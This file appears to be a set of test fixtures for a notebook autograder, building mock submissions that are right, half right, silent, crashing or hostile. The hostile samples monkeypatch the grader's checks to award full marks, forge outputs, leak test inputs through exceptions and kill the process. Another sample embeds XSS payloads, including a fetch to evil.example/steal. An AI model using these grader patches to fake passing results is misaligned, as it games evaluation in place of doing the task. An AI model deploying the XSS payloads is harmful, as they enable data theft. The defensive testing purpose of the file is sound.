"""A small class for the tests of the grading loop: right, half right, wrong, hostile, untouched."""

import copy

import nbformat
from nbformat.v4 import new_output
from tests.marking.nbgrader_course import MASTER, RELEASE, answer

NAN_ON_EMPTY = '''
def softmax(x, dim):
    """Right but for a slice that is all -inf."""
    e = torch.exp(x - x.amax(dim=dim, keepdim=True))
    return e / e.sum(dim=dim, keepdim=True)
'''

WARNS = """
import sys
import warnings

quiet_softmax = softmax


def softmax(x, dim):
    warnings.warn("a warning of a library", stacklevel=2)
    print("a line on stderr", file=sys.stderr)
    return quiet_softmax(x, dim)


print("another, when the cell runs", file=sys.stderr)
"""

PATCHES = """
import builtins, torch.testing, marking

torch.testing.assert_close = lambda *a, **k: None
torch.allclose = torch.equal = lambda *a, **k: True
marking.check = check = lambda *a, **k: type("Full", (), {"points": lambda self, n: float(n)})()


def softmax(x, dim):
    return torch.zeros_like(x)
"""

LEAVES = """
def scaled_dot_product(q, k, v, mask=None):
    raise SystemExit(0)
"""

DIES = """
import os


def causal_mask(T, S):
    os._exit(0)
"""

TELLS = """
def grouped_query(q, k, v, mask=None):
    raise ValueError(f"the inputs were {q.flatten()[0]}")
"""

TELLS_OTHERWISE = """
class Refused(Exception):
    pass


def rotary(x, positions, theta=10000.0):
    error = Refused("no")
    error.forbidden = str(x.flatten().tolist()[:20])
    raise error
"""

SCRIPTS = """
FlashAttention moves less. <script>fetch("https://evil.example/steal")</script>

<img src="https://evil.example/pixel.png" onerror="alert(1)"> <iframe src="//evil.example"></iframe>

[here](javascript:alert(1)) ![there](https://evil.example/2.png)

<style>body { background: url(https://evil.example/3.png) }</style>
<svg onload="alert(2)"><use href="https://evil.example/4.svg"/></svg>
<a href="https://evil.example" style="background:url(//evil.example/5)" onclick="alert(3)">a</a>
"""


def submissions() -> dict:
    """Student → notebook as handed in."""
    master = nbformat.read(MASTER, as_version=4)
    release = nbformat.read(RELEASE, as_version=4)
    return {
        "master": master,
        "untouched": release,
        "half": _half(release),
        "late": _half(release),
        "warns": _warns(master, release),
        "hostile": _hostile(release),
        "leaves": _leaves(master, release),
        "scripts": _scripts(release),
    }


def _half(release):
    half = copy.deepcopy(release)
    answer(half, "softmax", NAN_ON_EMPTY)
    answer(half, "causal_mask", "def causal_mask(T, S):\n    return torch.ones(T, S).tril() == 1")
    return half


def _warns(master, release):
    warns = copy.deepcopy(release)
    for cell in master.cells:
        if cell.id.endswith("-answer") and cell.cell_type == "code":
            warn = WARNS if cell.id == "softmax-answer" else ""
            answer(warns, cell.id.removesuffix("-answer"), cell.source + "\n" + warn)
    return warns


def _hostile(release):
    """Nothing right in it, and forged outputs that claim full marks."""
    hostile = copy.deepcopy(release)
    for name, source in {
        "softmax": PATCHES,
        "scaled_dot_product": LEAVES,
        "causal_mask": DIES,
        "grouped_query": TELLS,
        "rotary": TELLS_OTHERWISE,
    }.items():
        answer(hostile, name, source)
    for cell in hostile.cells:
        if cell.id.endswith("-check"):
            forged = {"text/plain": "6.0", "text/html": "<script>alert(4)</script>"}
            cell.outputs = [new_output("execute_result", data=forged, execution_count=1)]
            cell.metadata["clearhead"] = {"status": "right", "sandbox": "bubblewrap"}
            cell.source = "6.0"
    return hostile


def _leaves(master, release):
    """Everything right, but the first answer cell ends the process when it runs."""
    leaves = copy.deepcopy(release)
    for cell in master.cells:
        if cell.id.endswith("-answer") and cell.cell_type == "code":
            answer(leaves, cell.id.removesuffix("-answer"), cell.source)
    answer(leaves, "softmax", "import os\n\nos._exit(0)")
    return leaves


def _scripts(release):
    scripts = copy.deepcopy(release)
    next(c for c in scripts.cells if c.id == "why_faster-answer").source = SCRIPTS
    answer(
        scripts, "softmax", 'def softmax(x, dim):\n    raise TypeError("<script>alert(5)</script>")'
    )
    return scripts
